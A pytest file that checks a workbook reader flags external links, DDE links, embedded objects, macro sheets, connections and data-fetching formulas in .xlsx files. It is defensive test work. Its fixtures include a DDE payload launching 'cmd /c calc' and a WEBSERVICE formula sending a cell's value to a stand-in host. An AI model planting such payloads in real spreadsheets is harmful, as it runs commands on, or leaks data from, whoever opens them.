"""What a workbook would fetch, start or carry along: each told once, by kind, and nothing of it followed."""

import pytest

from converters.workbook.reading.read import read
from schemas.messages import line_of
from tests.bad.workbooks import FORM, good, rezip
from tests.builders import findings

LINK = "xl/externalLinks/externalLink1.xml"
RELS = "xl/externalLinks/_rels/externalLink1.xml.rels"


def link(target):
    return f'<Relationships><Relationship Id="rId1" Type="x" Target="{target}" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("added", "reason", "n", "shown"),
    [
        ({LINK: "<externalLink/>", RELS: link("file:///C:\\年报\\台账.xlsx")}, "links", 1, "台账.xlsx"),
        ({RELS: link("http://example.org/a.xlsx?x&amp;y")}, "links", 1, "“http://example.org/a.xlsx?x&y”"),
        ({LINK: "<x:externalLink><x:ddeLink ddeTopic='/c calc' ddeService='cmd'/>"}, "dde", 1, "“/c calc cmd”"),
        ({f"xl/embeddings/oleObject{i}.bin": "" for i in range(7)}, "objects", 7, "oleObject4.bin”"),
        ({"xl/activeX/activeX1.bin": ""}, "objects", 1, "activeX1.bin"),
        ({"xl/macrosheets/sheet1.xml": "<m/>"}, "macrosheets", 1, "sheet1.xml"),
        ({"xl/connections.xml": "<c/>"}, "connections", 1, "connections.xml"),
    ],
)
def test_each_kind_is_told(added, reason, n, shown):
    reading = read(rezip(good(), add=[(name, text.encode()) for name, text in added.items()]), "a.xlsx")
    (found,) = findings(reading)
    assert (found.rule, found.reason, found.details["n"]) == ("STR-OUTSIDE", reason, n)
    assert shown in line_of(found, FORM, "zh")
    assert shown in line_of(found, FORM, "en")
    assert "oleObject6" not in line_of(found, FORM, "zh")


def test_what_belongs_to_any_workbook_is_not_told():
    parts = ("xl/printerSettings/printerSettings1.bin", "xl/media/image1.png", "xl/calcChain.xml")
    assert findings(read(rezip(good(), add=[(name, b"<x/>") for name in parts]), "a.xlsx")) == ()


CALL = '_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;B9)'


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        (
            "xl/worksheets/sheet5.xml",
            b"</sheetData>",
            f'<row r="900"><c r="A900"><f>{CALL}</f><v>1</v></c></row></sheetData>',
        ),
        ("xl/worksheets/sheet5.xml", b"<formula1>", f"<formula1>{CALL}</formula1><formula1>"),
        ("xl/workbook.xml", b"</definedNames>", f'<definedName name="n">{CALL}</definedName></definedNames>'),
    ],
)
def test_formulas_that_fetch_are_told_wherever_they_stand(part, old, new):
    def put(text):
        assert old in text
        return text.replace(old, new.encode(), 1)

    (found,) = [f for f in findings(read(rezip(good(), {part: put}), "a.xlsx")) if f.rule == "STR-OUTSIDE"]
    assert (found.reason, found.details) == ("functions", {"n": 1, "raw": '“WEBSERVICE("http://192.0.2.1/?"&B9)”'})
    assert "192.0.2.1" in line_of(found, FORM, "zh")
